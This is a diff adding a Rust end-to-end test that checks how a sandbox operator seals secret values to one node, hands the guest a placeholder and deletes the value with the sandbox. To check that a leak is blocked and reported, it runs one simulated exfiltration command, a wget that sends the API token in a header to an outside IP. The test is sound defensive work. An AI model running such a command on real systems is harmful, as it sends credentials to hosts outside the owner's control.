@@ -750,3 +750,128 @@ async fn leader_election_fails_over_to_the_standby() {
     );
     assert!(ok, "{err}");
 }
+
+/// `spec.secrets` in cluster mode: the operator seals the values to the bound node-agent's key
+/// (node-agents may not read core Secrets at all); the guest sees a placeholder; the value is on
+/// the bound node only, in the agent's 0600 file, and goes with the sandbox.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secret_values_reach_only_the_bound_node_sealed() {
+    const VALUE: &str = "sk-e2e-5ea1ed-value-0042";
+    let c = Cluster::new("e2e-sealed").await;
+    let op = c.operator(&[]);
+    let a1 = c.agent("n1", &[]);
+    let a2 = c.agent("n2", &[]);
+    wait_leases(&c, 2).await;
+
+    // Its Secret does not exist yet: bound, not created, and it says why.
+    c.apply(&sandbox_yaml(
+        "job",
+        "  secrets:\n  - {name: api, env: API_TOKEN}\n",
+    ));
+    let s = c
+        .wait_sandbox("job", READY_TIMEOUT, "waiting for its Secret", |s| {
+            condition(s, "SecretsSealed")
+                .is_some_and(|c| c.status == "False" && c.reason == "SecretNotFound")
+        })
+        .await;
+    assert_ne!(
+        s.status.as_ref().and_then(|st| st.phase),
+        Some(SandboxPhase::Running)
+    );
+    assert!(s.status.as_ref().unwrap().sealed_secrets.is_none());
+
+    c.apply(&format!(
+        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: api-core\nstringData:\n  token: {VALUE}\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Secret\nmetadata:\n  name: api\nspec:\n  secretRef: {{name: api-core, key: token}}\n  allowHosts: [api.example.com]\n"
+    ));
+    let s = c
+        .wait_sandbox("job", READY_TIMEOUT, "Ready", is_ready)
+        .await;
+    let node = node_of(&s);
+    let (bound, other) = if node == "n1" { (&a1, &a2) } else { (&a2, &a1) };
+    let st = s.status.clone().unwrap();
+    let sealed = st.sealed_secrets.clone().expect("status.sealedSecrets");
+    let leases: kube::Api<k8s_openapi::api::coordination::v1::Lease> =
+        kube::Api::namespaced(c.client.clone(), &c.system_ns);
+    let lease = leases
+        .get(&format!("microsandbox-node-{node}"))
+        .await
+        .unwrap();
+    assert_eq!(
+        lease.metadata.annotations.unwrap()["microsandbox.dev/sealing-key"],
+        sealed.recipient,
+        "sealed to the bound node's key"
+    );
+    assert_eq!(
+        condition(&s, "SecretsSealed").map(|c| c.status.as_str()),
+        Some("True")
+    );
+    let (ok, json, err) = c.kubectl(&["get", "sandbox", "job", "-n", &c.ns, "-o", "json"], None);
+    assert!(ok, "{err}");
+    assert!(!json.contains(VALUE), "the value is in the Sandbox object");
+
+    // The guest holds a placeholder; the proxy knows it (a use over plain HTTP is blocked and
+    // reported by the bound node's agent).
+    let local = local_of(&s);
+    let client = bound.client().await;
+    let sh = |script: &str| ExecRequest {
+        command: "sh".into(),
+        args: vec!["-c".into(), script.into()],
+        ..Default::default()
+    };
+    let out = client.exec(&local, sh("echo $API_TOKEN")).await.unwrap();
+    let placeholder = String::from_utf8_lossy(&out.stdout).trim().to_string();
+    assert!(placeholder.starts_with("msb-secret-"), "{placeholder:?}");
+    let out = client
+        .exec(
+            &local,
+            sh("wget -O- --header \"X-Key: $API_TOKEN\" http://203.0.113.7/x; env"),
+        )
+        .await
+        .unwrap();
+    let shown = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!shown.contains(VALUE));
+    let v = client.secret_violations(&local).await.unwrap();
+    assert!(
+        v.iter()
+            .any(|v| v.secret == "API_TOKEN" && v.host == "203.0.113.7"),
+        "{v:?} {shown}"
+    );
+
+    // Where the value is: the bound agent's 0600 file, nowhere else on either node (logs,
+    // state, the sandbox's root filesystem), not in the operator's log.
+    let file = bound
+        .state
+        .join("sandboxes")
+        .join(&local)
+        .join("secrets.json");
+    assert_eq!(
+        microsandbox_e2e::files_containing(&bound.state, VALUE.as_bytes()),
+        vec![file.clone()]
+    );
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    assert!(microsandbox_e2e::files_containing(&other.state, VALUE.as_bytes()).is_empty());
+    assert!(!op.log_text().contains(VALUE));
+
+    let (ok, _, err) = c.kubectl(
+        &[
+            "delete",
+            "-n",
+            &c.ns,
+            "sandbox",
+            "job",
+            "--wait=true",
+            "--timeout=60s",
+        ],
+        None,
+    );
+    assert!(ok, "{err}");
+    assert!(microsandbox_e2e::files_containing(&bound.state, VALUE.as_bytes()).is_empty());
+}
